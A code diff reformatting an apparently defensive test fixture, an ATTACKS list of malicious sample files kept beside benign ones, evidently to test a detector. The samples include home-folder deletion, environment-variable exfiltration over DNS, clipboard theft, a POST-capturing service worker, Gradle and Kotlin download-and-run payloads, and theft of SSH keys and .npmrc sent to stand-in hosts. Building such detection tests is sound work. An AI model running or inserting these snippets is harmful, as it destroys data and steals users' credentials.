@@ -114,13 +114,31 @@ const ATTACKS: readonly (readonly [path: string, text: string])[] = [
     "w2.js",
     'const fs=require("fs"),os=require("os"),p=require("path");\nfor (const d of ["Documents","Desktop"]) fs.rmSync(p.join(os.homedir(), d), { recursive: true, force: true });\n',
   ],
-  ["names.js", "const dns = require(\"dns\");\nfor (const [k, v] of Object.entries(process.env)) dns.resolve(Buffer.from(k + \"=\" + v).toString(\"hex\").slice(0, 60) + \".q.invalid\", () => {});\n"],
-  ["clip.js", "const { execSync } = require(\"child_process\");\nsetInterval(() => { const c = execSync(\"pbpaste\").toString(); if (c.length > 20) fetch(\"https://q.invalid/c\", { method: \"POST\", body: c }); }, 5000);\n"],
-  ["sw.js", "self.addEventListener(\"fetch\", (e) => { if (e.request.method === \"POST\") e.respondWith((async () => { const c = e.request.clone(); navigator.sendBeacon; fetch(\"https://q.invalid/p\", { method: \"POST\", body: await c.text() }); return fetch(e.request); })()); });\n"],
-  ["x.main.kts", "val b = java.net.URL(\"https://q.invalid/j.jar\").readBytes()\njava.io.File(\"/tmp/j.jar\").writeBytes(b)\nProcessBuilder(\"java\", \"-jar\", \"/tmp/j.jar\").start()\n"],
-  ["wrapper.gradle", "task wrap { doLast { ant.get(src: 'https://q.invalid/g.sh', dest: 'build/g.sh'); exec { commandLine 'sh', 'build/g.sh' } } }\n"],
+  [
+    "names.js",
+    'const dns = require("dns");\nfor (const [k, v] of Object.entries(process.env)) dns.resolve(Buffer.from(k + "=" + v).toString("hex").slice(0, 60) + ".q.invalid", () => {});\n',
+  ],
+  [
+    "clip.js",
+    'const { execSync } = require("child_process");\nsetInterval(() => { const c = execSync("pbpaste").toString(); if (c.length > 20) fetch("https://q.invalid/c", { method: "POST", body: c }); }, 5000);\n',
+  ],
+  [
+    "sw.js",
+    'self.addEventListener("fetch", (e) => { if (e.request.method === "POST") e.respondWith((async () => { const c = e.request.clone(); navigator.sendBeacon; fetch("https://q.invalid/p", { method: "POST", body: await c.text() }); return fetch(e.request); })()); });\n',
+  ],
+  [
+    "x.main.kts",
+    'val b = java.net.URL("https://q.invalid/j.jar").readBytes()\njava.io.File("/tmp/j.jar").writeBytes(b)\nProcessBuilder("java", "-jar", "/tmp/j.jar").start()\n',
+  ],
+  [
+    "wrapper.gradle",
+    "task wrap { doLast { ant.get(src: 'https://q.invalid/g.sh', dest: 'build/g.sh'); exec { commandLine 'sh', 'build/g.sh' } } }\n",
+  ],
   ["gradle-wrapper.properties", "distributionUrl=http\\://203.0.113.5/gradle-8.5-bin.zip\n"],
-  ["home.js", "class A { constructor() { this.h = require(\"os\").homedir(); } read(f) { return require(\"fs\").readFileSync(this.h + \"/\" + f, \"utf8\"); } send(d) { return fetch(\"https://q.invalid/u\", { method: \"POST\", body: d }); } }\nconst a = new A(); for (const f of [\".ssh/id_rsa\", \".npmrc\"]) a.send(a.read(f));\n"],
+  [
+    "home.js",
+    'class A { constructor() { this.h = require("os").homedir(); } read(f) { return require("fs").readFileSync(this.h + "/" + f, "utf8"); } send(d) { return fetch("https://q.invalid/u", { method: "POST", body: d }); } }\nconst a = new A(); for (const f of [".ssh/id_rsa", ".npmrc"]) a.send(a.read(f));\n',
+  ],
 ];
 
 /** Files of the same kinds that do nothing of that. */
